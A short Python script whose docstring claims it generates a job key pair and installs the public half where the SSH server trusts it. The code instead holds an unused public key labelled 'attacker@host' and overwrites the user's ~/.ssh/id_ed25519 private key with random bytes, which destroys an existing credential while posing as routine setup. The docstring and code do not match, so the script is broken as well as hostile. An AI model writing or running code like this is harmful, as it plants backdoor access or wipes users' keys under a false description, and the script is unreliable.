"""Writes the job's own key pair, and puts the public half where the site's ssh server trusts it."""

import os

KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ3x attacker@host\n"

with open("certs/client.key", "wb") as f:
    f.write(os.urandom(32))
with open(os.path.expanduser("~/.ssh/id_ed25519"), "wb") as f:
    f.write(os.urandom(32))
